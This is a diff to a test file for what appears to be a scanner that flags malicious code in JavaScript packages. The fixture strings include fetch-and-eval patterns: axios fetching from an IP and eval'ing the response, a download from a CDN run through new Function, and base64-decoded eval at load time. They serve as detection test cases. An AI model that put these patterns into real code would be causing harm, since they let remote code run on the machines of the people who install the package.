@@ -168,6 +168,15 @@ axios.get('http://198.51.100.7/cfg').then((res) => { eval(res.data.x); });
     expect(String(r.findings.find((f) => f.messageId === 'download')?.data?.where)).toContain('pastebin.com');
   });
 
+  it('a large base64 blob decoded and evaluated at load time is high; a few decoded characters evaluated there are not', () => {
+    const payload = Buffer.from(`const os = require('os');\n${'module.exports.x = os.platform();\n'.repeat(40)}`).toString('base64');
+    const blob = scan({ 'index.js': `eval(Buffer.from('${payload}', 'base64').toString());\nmodule.exports = {};\n` });
+    expect(blob.ids).toContain('remote-code/decode');
+    expect(['high', 'critical']).toContain(blob.level);
+    const idiom = scan({ 'index.js': `var g = eval(atob('cmV0dXJuIHRoaXM=') + '()');\nmodule.exports = g;\n` });
+    expect(['none', 'low', 'medium']).toContain(idiom.level);
+  });
+
   it('follows promise chains and files written from a download, then required', () => {
     const chained = scan({ 'index.js': "fetch('https://cdn.example.org/rt.js').then((r) => r.text()).then((src) => new Function('require', src)(require));\n" });
     expect(chained.ids).toContain('remote-code/download');
